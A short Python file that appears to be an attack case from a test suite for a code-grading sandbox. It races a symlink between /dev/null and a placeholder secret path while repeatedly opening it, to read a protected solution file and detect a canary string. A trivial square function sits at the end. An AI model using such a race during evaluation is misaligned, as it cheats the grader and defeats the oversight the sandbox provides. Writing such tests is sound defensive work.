"""Changes a link from an allowed file to the solution while it is being opened.

stopped by: system calls
points: all
"""

# Swallowed; half a second of trying is enough to win such a race where there is one.
import contextlib
import os
import threading
import time

LINK = "@OPEN@/attack-race"
END = time.monotonic() + 0.5


def flip():
    while time.monotonic() < END:
        for target in ("/dev/null", "@SECRET@"):
            with contextlib.suppress(OSError):
                os.symlink(target, f"{LINK}-next")
                os.replace(f"{LINK}-next", LINK)


flipping = threading.Thread(target=flip)
flipping.start()
while time.monotonic() < END:
    with contextlib.suppress(OSError), open(LINK) as file:
        if "CANARY" in file.read():
            print("REACHED the solution")
            break
flipping.join()


def square(x):
    return x * x
